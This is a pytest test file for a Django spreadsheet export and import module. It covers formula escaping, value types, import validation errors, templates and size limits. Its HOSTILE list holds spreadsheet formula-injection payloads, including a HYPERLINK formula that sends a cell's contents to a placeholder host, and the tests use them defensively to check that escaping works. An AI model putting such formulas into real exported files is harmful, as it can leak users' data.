"""The spreadsheet kernel on its own: the safe cell writer every export uses, and a made-up import that shows what
any import gets from it (header search, row and column errors, all or nothing)."""

from __future__ import annotations

import dataclasses
import datetime
import decimal
import io
import zipfile

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import override_settings
from django.utils import timezone, translation
from django.utils.translation import gettext_lazy
from openpyxl import Workbook

from chuxin.core import spreadsheet
from chuxin.core.spreadsheet import Column, Limits, RowError, TableSpec

HOSTILE = ['=HYPERLINK("http://x/?"&E2,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1"]


def reopen(wb: Workbook):
    return openpyxl.load_workbook(io.BytesIO(spreadsheet.workbook_bytes(wb))).worksheets[0]


@pytest.mark.parametrize("write_only", [True, False])
def test_text_that_would_run_as_a_formula_is_written_as_escaped_text(write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("x") if write_only else wb.active
    spreadsheet.write_row(ws, HOSTILE)
    spreadsheet.write_row(ws, ["#N/A", "#REF!", "plain", "a=b", "1-2"])

    ws = reopen(wb)

    first, second = list(ws.iter_rows(values_only=False))
    for cell, written in zip(first, HOSTILE, strict=True):
        assert cell.data_type == "s"
        # An XML parser may read a carriage return back as a line feed (the standard library's does, lxml keeps
        # it): either way the cell is the text with its apostrophe, never a formula.
        assert cell.value.replace("\r", "\n") == "'" + written.replace("\r", "\n")
    # Error codes stay text too; text with a sign inside is left as it is.
    assert [(c.data_type, c.value) for c in second[:5]] == [
        ("s", "#N/A"), ("s", "#REF!"), ("s", "plain"), ("s", "a=b"), ("s", "1-2")
    ]


def test_values_keep_their_kind_dates_get_a_format_and_numbers_stay_numbers():
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("x")
    moment = timezone.make_aware(datetime.datetime(2026, 7, 1, 23, 30), datetime.UTC)  # 07-02 07:30 in Shanghai
    spreadsheet.write_row(ws, [datetime.date(2026, 7, 1), moment, 42, -3.5, decimal.Decimal("2.50"), True, None, "",
                            "end"])

    date, when, whole, negative, money, flag, none, empty, _end = next(reopen(wb).iter_rows())

    assert (date.value, date.number_format, date.is_date) == (datetime.datetime(2026, 7, 1), "yyyy-mm-dd", True)
    assert (when.value, when.number_format) == (datetime.datetime(2026, 7, 2, 7, 30), "yyyy-mm-dd hh:mm")
    assert (whole.value, whole.data_type) == (42, "n")
    assert (negative.value, negative.data_type) == (-3.5, "n")  # a negative number is a number, not a formula
    assert (money.value, money.data_type) == (2.5, "n")
    assert (flag.value, flag.data_type) == (True, "b")
    assert none.value is None and empty.value is None


def test_text_xml_cannot_hold_is_cleaned_and_long_text_is_cut():
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("x")
    spreadsheet.write_row(ws, ["a\x00b\x07c\x1fd", "x" * 40000, "第一行\n第二行"])
    cleaned, long, lines = next(reopen(wb).iter_rows(values_only=True))
    assert cleaned == "abcd"
    assert len(long) == spreadsheet.MAX_CELL_TEXT
    assert lines == "第一行\n第二行"


@pytest.mark.parametrize("value", HOSTILE[:4] + ["'", "'plain", "''=x"])
def test_reading_back_undoes_the_escape_and_nothing_else(value):
    assert spreadsheet.text(spreadsheet.escape_text(value)) == value


def test_a_sheet_starts_with_widths_a_title_line_and_a_frozen_styled_header():
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("x")
    spreadsheet.start_sheet(ws, ["姓名", "Citizen ID number", "x"], widths=[None, 22], above=[["=名册"]])
    spreadsheet.write_row(ws, ["张三", "110105198505201234", 1])

    ws = reopen(wb)

    assert ws.freeze_panes == "A3"
    assert (ws["A1"].value, ws["A1"].font.b) == ("'=名册", True)
    assert [c.value for c in ws[2]] == ["姓名", "Citizen ID number", "x"]
    assert ws["A2"].font.b and ws["A2"].fill.fgColor.rgb.endswith("C8161D")
    assert ws.column_dimensions["A"].width == 12  # at least 12; a Chinese character counts twice
    assert ws.column_dimensions["B"].width == 22
    assert ws["B3"].data_type == "s"  # an ID number stays text


# ---------------------------------------------------------------------------------------------------------------
# A made-up import, to show what any import gets


def _pages(value) -> int:
    if not isinstance(value, int | float) or value < 1:
        raise ValidationError(f"“{value}” is not a number of pages.")
    return int(value)


BOOKS = TableSpec((
    Column("title", gettext_lazy("Title"), ("书名",), required=True),
    Column("published", gettext_lazy("Date"), ("出版日期",), parse=spreadsheet.parse_date, blank=None,
           number_format=spreadsheet.DATE_FORMAT),
    Column("pages", gettext_lazy("Pages"), ("页数",), parse=_pages, blank=0, help="A whole number."),
))


class Shelf:
    """The checker: no title twice; the write records what it was given and where."""

    def __init__(self, titles):
        self.titles = titles
        self.written: list[dict] = []
        self.in_transaction = False
        self.rows = []

    def check(self, rows, deadline, progress):
        seen = {}
        for row in rows:
            title = row.values.get("title")
            if title in seen:
                row.errors["title"] = f"Already in row {seen[title]}."
            seen.setdefault(title, row.number)
        self.rows = rows

    def counts(self):
        return len(self.rows), 0, 0

    def write(self):
        self.in_transaction = connection.in_atomic_block
        self.written = [row.values for row in self.rows]
        return len(self.written), 0, 0


def books(rows: list[list], header=("书名", "出版日期", "页数"), above=()) -> SimpleUploadedFile:
    wb = Workbook()
    ws = wb.active
    for line in above:
        ws.append(line)
    ws.append(list(header))
    for row in rows:
        ws.append(row)
    return SimpleUploadedFile("books.xlsx", spreadsheet.workbook_bytes(wb))


def run(upload, spec=BOOKS, write=True, **limits):
    shelves = []

    def checker(titles):
        shelves.append(Shelf(titles))
        return shelves[0]

    result = spreadsheet.run_import(upload=upload, spec=spec, checker=checker, write=write,
                                    limits=Limits(max_rows=limits.pop("max_rows", 100), seconds=60, **limits))
    return result, (shelves[0] if shelves else None)


def test_a_check_without_writing_is_a_preview_of_what_the_write_would_do(db):
    result, shelf = run(books([["初心", None, 1], ["使命", None, 2]]), write=False)
    assert (result.ok, result.preview, result.created, result.total) == (True, True, 2, 2)
    assert shelf.written == []
    assert spreadsheet.ImportResult.from_dict(result.as_dict()) == result  # kept on a job as it is
    # A file with a problem is no preview: there is nothing to confirm.
    result, shelf = run(books([["初心", "someday", 1]]), write=False)
    assert (result.ok, result.preview, result.error_count) == (False, False, 1)


def test_each_problem_carries_what_the_rows_label_column_says(db):
    named = dataclasses.replace(BOOKS, label_column="title")
    with translation.override("en"):
        result, _shelf = run(books([["初心", "someday", 1], [None, None, "many"]]), spec=named)
    assert [(e.row, e.name) for e in result.errors] == [(2, "初心"), (3, ""), (3, "")]
    # Results stored before errors had names read back unchanged.
    old = {"ok": False, "errors": [{"row": 2, "column": "书名", "message": "?"}], "error_count": 1}
    assert spreadsheet.ImportResult.from_dict(old).errors[0].name == ""


def test_any_import_finds_its_header_by_alias_and_writes_all_rows_in_one_transaction(db):
    result, shelf = run(books([["初心", datetime.date(2021, 7, 1), 300], ["使命", "2021年7月1日", None]],
                              above=[["书目"]]))
    assert (result.ok, result.created, result.total) == (True, 2, 2)
    assert shelf.in_transaction
    assert shelf.written == [
        {"title": "初心", "published": datetime.date(2021, 7, 1), "pages": 300},
        {"title": "使命", "published": datetime.date(2021, 7, 1), "pages": 0},
    ]


def test_any_import_reports_each_problem_by_row_and_column_and_writes_nothing(db):
    with translation.override("en"):
        result, shelf = run(books([
            ["初心", "someday", "many"],
            [None, None, 10],
            ["初心", None, 5],
        ], header=("Title", "出版日期", "pages")))
    assert not result.ok and shelf.written == []
    assert result.errors == [
        RowError(2, "出版日期", "“someday” is not a date; write it as 2020-01-02."),
        RowError(2, "pages", "“many” is not a number of pages."),
        RowError(3, "Title", "This cell must be filled in."),
        RowError(4, "Title", "Already in row 2."),
    ]
    assert result.error_count == 4


def test_any_import_gets_the_generic_refusals_in_the_users_language(db):
    with translation.override("en"):
        assert run(books([]))[0].errors == [RowError(0, "", "The file has a header row but no rows below it.")]
        assert run(books([["a"], ["b"]]), max_rows=1)[0].errors == [
            RowError(0, "", "The file has more than 1 rows. Split it into smaller files.")]
    with translation.override("zh-hans"):
        message = run(books([]))[0].errors[0].message
    assert message == "文件有表头行，但下面没有数据行。"


def test_the_template_is_written_from_the_same_columns(db):
    with translation.override("en"):
        content = spreadsheet.template_workbook(BOOKS, title="Books", instructions=["One book per row."],
                                                example=["初心", datetime.date(2021, 7, 1), 300], data_rows=100)
    wb = openpyxl.load_workbook(io.BytesIO(content))
    sheet, guide = wb.worksheets
    assert [c.value for c in sheet[1]] == ["Title", "Date", "Pages"]
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].fill.fgColor.rgb.endswith("C8161D") and sheet["B1"].fill.fgColor.rgb.endswith("6C757D")
    assert sheet.column_dimensions["B"].number_format == "yyyy-mm-dd"
    values = [c for row in guide.iter_rows(values_only=True) for c in row if c is not None]
    assert "One book per row." in values and "A whole number." in values
    # Read back by the import itself: the template's titles are found.
    result, _shelf = run(SimpleUploadedFile("t.xlsx", content))
    assert result.errors == [RowError(0, "", "文件有表头行，但下面没有数据行。")]


# ---------------------------------------------------------------------------------------------------------------
# The archive


def test_rows_are_counted_across_the_chunks_of_a_large_sheet():
    rows = 30_000  # ~1.4 MB of XML: more than one chunk, so tags are cut at a chunk's edge
    sheet = b"<worksheet><sheetData>" + b"".join(
        b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (i, i, i) for i in range(1, rows + 1)
    ) + b"</sheetData></worksheet>"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        archive.writestr("xl/worksheets/sheet2.xml", b'<x:worksheet><x:sheetData><x:row r="1"/></x:sheetData>')
    assert len(sheet) > spreadsheet.MB
    assert spreadsheet.count_rows(buffer) == rows


@override_settings(CHUXIN_IMPORT_MAX_ROWS=1000, CHUXIN_IMPORT_MAX_SECONDS=7, CHUXIN_IMPORT_JOB_MAX_SECONDS=70)
def test_limits_follow_the_settings_and_the_part_limits_grow_with_the_rows():
    limits = Limits.from_settings()
    assert (limits.max_rows, limits.seconds) == (1000, 7)
    assert Limits.from_settings(background=True).seconds == 70
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (2048 * 1000 + 1))
    with pytest.raises(spreadsheet.FileProblem):
        spreadsheet.check_archive(buffer, BOOKS, limits)
    spreadsheet.check_archive(buffer, BOOKS, Limits(max_rows=1001, seconds=1))
